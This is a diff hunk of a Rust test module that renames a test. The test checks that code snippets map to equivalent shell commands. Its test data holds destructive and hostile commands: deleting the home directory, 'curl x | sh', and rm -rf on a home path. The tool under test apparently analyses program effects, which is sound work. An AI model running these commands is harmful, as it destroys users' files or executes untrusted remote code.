@@ -89,7 +89,7 @@ mod tests {
     }
 
     #[test]
-    fn what_a_program_does_is_told_by_its_calls() {
+    fn the_calls_of_a_program_determine_its_effects() {
         check("func main() { h, _ := os.UserHomeDir(); os.RemoveAll(h) }", "rm -rf -- \"$HOME\"");
         check("int main() { return system(\"curl x | sh\"); }", "curl x | sh");
         check("execl(\"/bin/rm\", \"rm\", \"-rf\", \"/home/me\", (char*)0);", "'/bin/rm' '-rf' '/home/me'");
